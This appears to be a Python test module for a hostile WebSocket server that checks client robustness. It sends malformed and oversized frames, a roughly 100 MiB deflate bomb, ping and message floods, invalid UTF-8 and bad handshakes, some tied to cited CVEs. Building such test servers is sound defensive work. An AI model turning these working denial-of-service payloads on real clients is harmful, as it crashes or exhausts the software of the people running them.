# SPDX-License-Identifier: GPL-3.0-or-later
"""WebSocket frames that hurt (RFC 6455, RFC 7692)."""

import base64
import hashlib
import struct
import zlib

import json_attacks

GUID = '258EAFA5-E914-47DA-95CA-C5AB0DC85B11'
TEXT, BINARY, CLOSE, PING = 1, 2, 8, 9
FIN, RSV1 = 0x80, 0x40


def frame(payload, opcode=TEXT, flags=FIN):
    size = len(payload)
    if size < 126:
        head = struct.pack('>BB', flags | opcode, size)
    elif size < 65536:
        head = struct.pack('>BBH', flags | opcode, 126, size)
    else:
        head = struct.pack('>BBQ', flags | opcode, 127, size)
    return head + payload


async def begin(wire, *lines):
    key = wire.request.headers.get('sec-websocket-key', '')
    accept = base64.b64encode(hashlib.sha1((key + GUID).encode()).digest()).decode()
    await wire.head('101 Switching Protocols', 'Upgrade: websocket', 'Connection: Upgrade',
                    f'Sec-WebSocket-Accept: {accept}', *lines)


async def no_fin(wire):
    """A message whose continuation frames never end (CVE-2025-32049)."""
    await begin(wire)
    await wire.send(frame(b'a' * 60000, TEXT, 0))
    while True:
        await wire.send(frame(b'a' * 60000, 0, 0))


async def huge_length(wire):
    """A ten-byte head that announces 2^63 - 1 bytes (CVE-2026-0716)."""
    await begin(wire)
    await wire.send(struct.pack('>BBQ', FIN | TEXT, 127, (1 << 63) - 1))
    while True:
        await wire.wait(1)


async def huge_frame(wire):
    await begin(wire)
    await wire.send(struct.pack('>BBQ', FIN | TEXT, 127, 1 << 40))
    while True:
        await wire.send(b'a' * 65536)


async def deflate_bomb(wire):
    """mib: size after unpacking. Sent compressed even to a client that never
    offered permessage-deflate."""
    await begin(wire, 'Sec-WebSocket-Extensions: permessage-deflate')
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b''.join(packer.compress(b'a' * (1 << 20)) for _ in range(wire.number('mib', 100)))
    packed += packer.flush(zlib.Z_SYNC_FLUSH)
    await wire.send(frame(packed[:-4], TEXT, FIN | RSV1))
    await wire.wait(5)


async def invalid_utf8(wire):
    await begin(wire)
    await wire.send(frame(b'{"kind":"\xff\xed\xa0\x80"}'))
    await wire.wait(5)


async def masked(wire):
    await begin(wire)
    await wire.send(b'\x81\x82\x00\x00\x00\x00{}')
    await wire.wait(5)


async def reserved(wire):
    await begin(wire)
    await wire.send(frame(b'{}', 11, FIN | 0x30))
    await wire.wait(5)


async def ping_flood(wire):
    await begin(wire)
    while True:
        await wire.send(frame(b'p' * 100, PING) * 500)


async def message_flood(wire):
    await begin(wire)
    while True:
        await wire.send(frame(b'{"kind":"commit"}') * 500)


async def bad_json(wire):
    """Every body of json_attacks as a text or, if not UTF-8, a binary frame."""
    await begin(wire)
    for body in [*json_attacks.FIXED.values(), json_attacks.arrays(100000),
                 json_attacks.objects(100000)]:
        try:
            body.decode()
            await wire.send(frame(body))
        except UnicodeDecodeError:
            await wire.send(frame(body, BINARY))
    await wire.send(frame(b'{"last":"good"}'))
    await wire.wait(5)


async def bad_close(wire):
    await begin(wire)
    await wire.send(frame(b'\x00', CLOSE))
    await wire.wait(5)


async def bad_accept(wire):
    await wire.head('101 Switching Protocols', 'Upgrade: websocket', 'Connection: Upgrade',
                    'Sec-WebSocket-Accept: AAAAAAAAAAAAAAAAAAAAAAAAAAA=')
    await wire.send(frame(b'{}'))
    await wire.wait(5)


PATHS = {
    '/ws/no-fin': no_fin, '/ws/huge-length': huge_length, '/ws/huge-frame': huge_frame,
    '/ws/deflate-bomb': deflate_bomb, '/ws/invalid-utf8': invalid_utf8,
    '/ws/masked': masked, '/ws/reserved': reserved, '/ws/ping-flood': ping_flood,
    '/ws/message-flood': message_flood, '/ws/bad-json': bad_json,
    '/ws/bad-close': bad_close, '/ws/bad-accept': bad_accept,
}
